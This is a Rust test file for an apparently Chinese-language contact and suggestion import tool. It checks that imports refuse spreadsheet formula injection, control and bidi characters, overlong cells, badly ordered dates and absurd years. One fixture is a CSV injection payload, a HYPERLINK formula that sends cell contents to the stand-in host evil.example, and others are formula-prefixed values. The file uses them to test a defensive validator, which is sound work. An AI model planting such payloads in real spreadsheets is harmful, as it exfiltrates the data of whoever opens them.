//! Hostile files at import (SPEC §2): formulas, control characters and
//! overlong text, dates out of order or of absurd years, invalid geometry,
//! and workbooks whose declared extent is far larger than their cells.

#[path = "fixtures/io/helpers.rs"]
mod helpers;

use helpers::*;
use lianluo::i18n::Lang;
use std::path::{Path, PathBuf};

fn errors_with(dir: &Path, name: &str, content: impl AsRef<[u8]>, lang: Lang) -> (String, Vec<String>) {
    let mut files = base_files(dir);
    let f: PathBuf = write(dir, name, content);
    files.push(f.clone());
    (f.display().to_string(), import_errors(&files, lang))
}

const CONTACTS: &str = "code,name,role,phone,cell_code,deputy_code,active\n";

// ---- the one text check (H6, M4, M5) ----

#[test]
fn text_a_spreadsheet_would_run_is_refused_at_its_line_and_column() {
    let tmp = tempfile::tempdir().unwrap();
    let rows = "C1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点我\"\")\",cadre,,C1,,\n\
                C2,+SUM(1),other,@SUM(1),C1,,\n\
                C3,-2,other,,C1,,\n\
                C4,\" @x\",other,,C1,,\n\
                C5,张三,other,+86 138 1234 5678,C1,,\n\
                C6,李四,other,=1+1,C1,,\n";
    let (f, errors) = errors_with(tmp.path(), "contacts.csv", format!("{CONTACTS}{rows}"), Lang::En);
    let formula = "begins with =, +, -, @, a tab or a carriage return: it would run as a formula when opened in Excel/WPS (a phone may begin with + and a digit)";
    assert_eq!(
        errors,
        vec![
            format!("{f}:2: name: {formula}"),
            format!("{f}:3: name: {formula}"),
            format!("{f}:3: phone: {formula}"),
            format!("{f}:4: name: {formula}"),
            format!("{f}:5: name: {formula}"),
            format!("{f}:7: phone: {formula}"),
        ]
    );
    let (f, errors) = errors_with(
        tmp.path(),
        "联络员.csv",
        format!("{CONTACTS}C1,=x,other,,C1,,\n"),
        Lang::Zh,
    );
    assert_eq!(errors.len(), 1);
    assert!(
        errors[0].starts_with(&format!(
            "{f}:2: name: 以 =、+、-、@、制表符或回车开头：在 Excel/WPS 中打开时会被当作公式执行"
        )),
        "{errors:#?}"
    );
}

#[test]
fn control_characters_and_overlong_text_are_refused_not_kept() {
    let tmp = tempfile::tempdir().unwrap();
    let long = "a".repeat(32_768);
    let rows = format!(
        "C1,王\u{7}五,other,,C1,,\nC2,赵\u{202e}六,other,,C1,,\nC3,{long},other,,C1,,\nC4,\"两\n行\",other,,C1,,\n"
    );
    let (f, errors) = errors_with(tmp.path(), "contacts.csv", format!("{CONTACTS}{rows}"), Lang::En);
    assert_eq!(
        errors,
        vec![
            format!("{f}:2: name: holds a control character (a bell, an escape, a bidi control …): not stored"),
            format!("{f}:3: name: holds a control character (a bell, an escape, a bidi control …): not stored"),
            format!("{f}:4: name: longer than 32,767 characters (the most a spreadsheet cell holds)"),
        ]
    );
    let (_, errors) = errors_with(
        tmp.path(),
        "contacts.csv",
        format!("{CONTACTS}C3,{long},other,,C1,,\n"),
        Lang::Zh,
    );
    assert!(
        errors[0].ends_with("name: 超过 32767 个字符（表格单元格的上限）"),
        "{errors:#?}"
    );
}

#[test]
fn the_check_guards_geojson_properties_too() {
    let tmp = tempfile::tempdir().unwrap();
    let cells = r#"{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"code":"G9","name":"@cmd","area_code":"V1"},"geometry":null}]}"#;
    let (f, errors) = errors_with(tmp.path(), "cells.geojson", cells, Lang::En);
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert!(
        errors[0].starts_with(&format!("{f}: feature 1: name: begins with =")),
        "{errors:#?}"
    );
}

// ---- suggestion dates (M12) ----

const SUGGESTIONS: &str = "code,cell_code,title,source,raised_by,category,received_on,handling_unit,assigned_on,due_on,status,replied_on,satisfaction,closed_on\n";

#[test]
fn suggestion_dates_out_of_order_are_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let rows = "S1,C1,路灯,reception,,general,2024-03-15,住建局,2024-03-01,2024-04-30,assigned,,,\n\
                S2,C1,路灯,reception,,general,2024-03-15,住建局,2024-03-16,2024-03-10,assigned,,,\n\
                S3,C1,路灯,reception,,general,2024-03-15,住建局,2024-03-16,2024-04-30,replied,2024-03-16,,\n\
                S4,C1,路灯,reception,,general,2024-03-15,住建局,2024-03-16,2024-04-30,closed,2024-04-01,satisfied,2024-03-20\n\
                S5,C1,路灯,reception,,general,2024-03-15,住建局,2024-03-16,2024-04-30,closed,2024-04-01,satisfied,2024-04-01\n";
    let (f, errors) = errors_with(tmp.path(), "suggestions.csv", format!("{SUGGESTIONS}{rows}"), Lang::En);
    assert_eq!(
        errors,
        vec![
            format!("{f}:2: assigned_on: assigned_on 2024-03-01 is before received_on 2024-03-15: dates out of order"),
            format!("{f}:3: due_on: due_on 2024-03-10 is before assigned_on 2024-03-16: dates out of order"),
            format!("{f}:5: closed_on: closed_on 2024-03-20 is before replied_on 2024-04-01: dates out of order"),
        ]
    );
    let (_, errors) = errors_with(
        tmp.path(),
        "suggestions.csv",
        format!(
            "{SUGGESTIONS}{}",
            "S1,C1,路灯,reception,,general,2024-03-15,住建局,2024-03-01,2024-04-30,assigned,,,\n"
        ),
        Lang::Zh,
    );
    assert!(
        errors[0].ends_with("assigned_on: assigned_on 2024-03-01 早于 received_on 2024-03-15：日期先后不可能"),
        "{errors:#?}"
    );
}

#[test]
fn a_date_of_an_absurd_year_is_a_bad_date() {
    let tmp = tempfile::tempdir().unwrap();
    let rows = "S1,C1,路灯,reception,,general,0000-01-01,,,,received,,,\nS2,C1,路灯,reception,,general,9999/12/31,,,,received,,,\n";
    let (f, errors) = errors_with(tmp.path(), "suggestions.csv", format!("{SUGGESTIONS}{rows}"), Lang::En);
    assert_eq!(
        errors,
        vec![
            format!("{f}:2: received_on: invalid date \"0000-01-01\" (e.g. 2024-08-21, 2024/8/21, 2024年8月21日; years 1900–2200)"),
            format!("{f}:3: received_on: invalid date \"9999/12/31\" (e.g. 2024-08-21, 2024/8/21, 2024年8月21日; years 1900–2200)"),
        ]
    );
}
